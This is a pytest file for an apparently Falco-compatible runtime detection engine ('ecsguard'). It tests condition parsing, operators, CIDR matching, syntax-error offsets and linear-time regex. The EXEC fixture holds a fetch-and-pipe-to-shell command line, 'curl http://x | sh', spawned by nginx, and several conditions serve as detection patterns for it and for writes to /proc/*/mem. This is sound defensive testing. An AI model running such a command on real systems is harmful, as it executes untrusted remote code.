"""Falco condition language: parsing, operator semantics, errors with positions, re2 safety."""

from __future__ import annotations

from typing import Any

import pytest

from ecsguard.runtime.compiler import Constants, fold, generate
from ecsguard.runtime.fields import helper_namespace
from ecsguard.runtime.language import And, LanguageError, MacroRef, Not, Or, parse_condition
from ecsguard.runtime.state import RuntimeState

EXEC = {
    "class_uid": 1007,
    "activity_id": 1,
    "process": {
        "pid": 20,
        "name": "bash",
        "cmd_line": "bash -c curl http://x | sh",
        "file": {"path": "/bin/bash"},
        "user": {"uid": 0},
    },
    "actor": {"process": {"pid": 10, "name": "nginx", "user": {"uid": 33}}},
    "container": {"uid": "abc123"},
}
OPEN = {
    "class_uid": 1001,
    "activity_id": 3,
    "file": {"path": "/proc/1234/mem"},
    "actor": {"process": {"name": "python3"}},
    "unmapped": {"open_flags": "O_RDWR"},
}


def evaluate(condition: str, event: dict[str, Any]) -> bool:
    cls = event["class_uid"]
    node = fold(parse_condition(condition), cls)
    pool = Constants()
    expr = generate(node, cls, pool)
    namespace = {**helper_namespace(RuntimeState()), **pool.values}
    fn = eval(f"lambda e: {expr}", namespace)
    return bool(fn(event))


def test_precedence_and_not_binds_tighter() -> None:
    tree = parse_condition("a or b and not c")
    assert isinstance(tree, Or)
    assert isinstance(tree.items[1], And)
    assert isinstance(tree.items[1].items[1], Not)
    assert tree.items[0] == MacroRef("a", 0)


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("proc.name = bash", True),
        ("proc.name != bash", False),
        ("proc.name in (sh, bash)", True),
        ("proc.name in (sh, 'dash')", False),
        ("proc.cmdline contains '| sh'", True),
        ("proc.cmdline icontains 'CURL'", True),
        ("proc.cmdline startswith bash", True),
        ("proc.exepath endswith /bash", True),
        ("proc.exepath glob '/bin/*sh'", True),
        ("proc.exepath glob '/usr/*'", False),
        ("proc.exepath pmatch (/bin, /sbin)", True),
        ("proc.exepath pmatch (/bi)", False),
        ("proc.pname exists", True),
        ("proc.cwd exists", False),
        ("proc.cwd != /tmp", False),  # a missing field makes every comparison false, like Falco
        ("not proc.cwd = /tmp", True),
        ("user.uid = 0 and proc.puid > 0", True),
        ("user.uid < 0", False),
        ("proc.cmdline regex '.*curl.*[|] *sh'", True),
        ("tolower(proc.name) = BASH", False),
        ("tolower(proc.name) = bash", True),
        ("proc.aname[1] = nginx", True),
        ("proc.pname = val(proc.name)", False),
        ("evt.type in (execve, execveat) and container.id != host", True),
        ("fd.name = /etc/passwd", False),  # fd.* does not exist on process events: folds to false
    ],
)
def test_operators_on_exec(condition: str, expected: bool) -> None:
    assert evaluate(condition, EXEC) is expected


def test_file_fields_and_open_flags() -> None:
    assert evaluate("evt.is_open_write = true and fd.name glob '/proc/*/mem'", OPEN)
    assert evaluate("fd.directory = /proc/1234 and fd.filename = mem", OPEN)
    assert not evaluate("evt.is_open_read = false", OPEN)


def test_cidr_membership() -> None:
    event = {
        "class_uid": 4001,
        "activity_id": 1,
        "dst_endpoint": {"ip": "10.1.2.3", "port": 443},
        "connection_info": {"direction_id": 2},
    }
    assert evaluate("fd.snet in (10.0.0.0/8, 192.168.0.0/16)", event)
    assert not evaluate("fd.sip in (172.16.0.0/12)", event)
    assert evaluate("fd.sport = 443 and fd.sip = 10.1.2.3", event)


@pytest.mark.parametrize(
    ("condition", "offset"),
    [
        ("proc.name = bash and (proc.pid > 1", 34),
        ("proc.name === bash", 12),
        ("proc.name in (a, b", 18),
        ("proc.name bogus x", 10),
        ("and proc.name = x", 0),
    ],
)
def test_syntax_errors_carry_offsets(condition: str, offset: int) -> None:
    with pytest.raises(LanguageError) as info:
        parse_condition(condition)
    assert info.value.offset == offset


def test_catastrophic_regex_runs_in_linear_time() -> None:
    # (a+)+$ backtracks exponentially in a backtracking engine; re2 answers at once.
    event = {**EXEC, "process": {**EXEC["process"], "cmd_line": "a" * 50_000 + "!"}}
    assert not evaluate("proc.cmdline regex '(a+)+$'", event)
